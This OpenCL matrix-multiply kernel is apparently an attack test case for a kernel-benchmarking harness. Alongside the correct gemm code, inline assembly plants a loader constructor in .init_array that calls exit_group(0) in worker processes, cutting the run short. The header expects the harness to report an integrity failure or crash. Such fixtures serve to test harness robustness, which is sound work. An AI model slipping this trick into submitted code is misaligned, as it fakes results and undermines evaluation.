/* whet:
launches:
  - kernel: gemm
    grid: ["ceil_div(N, 16)", "ceil_div(M, 16)"]
    block: [16, 16]
    args: [A, B, C, M, N, K]
*/

/* attack: c1 constructor exits
 * task: gemm M=64,N=64,K=67
 * device: opencl
 * options: --calls 2 --hidden 0
 * verdicts: integrity/crash
 * needs: x86-64
 */

/* Ends the process from code that the loader runs. */
__kernel void gemm(__global const float *A, __global const float *B,
                   __global float *C, int M, int N, int K)
{
    int j = get_global_id(0), i = get_global_id(1);
    float s = 0.0f;
    __asm__ volatile(".ifndef whet_first\n"
                     ".pushsection .text.whet_first,\"ax\"\n"
                     "whet_first:\n"
                     "movl $39, %%eax\n" /* getpid: 1 in a worker */
                     "syscall\n"
                     "cmpl $1, %%eax\n"
                     "jne 2f\n"
                     "movl $231, %%eax\n"
                     "xorl %%edi, %%edi\n"
                     "syscall\n"
                     "2: ret\n"
                     ".popsection\n"
                     ".pushsection .init_array,\"aw\"\n"
                     ".quad whet_first\n"
                     ".popsection\n"
                     ".endif" ::: "memory");

    if (i >= M || j >= N)
        return;
    for (int k = 0; k < K; ++k)
        s += A[(size_t)i * K + k] * B[(size_t)k * N + j];
    C[(size_t)i * N + j] = s;
}
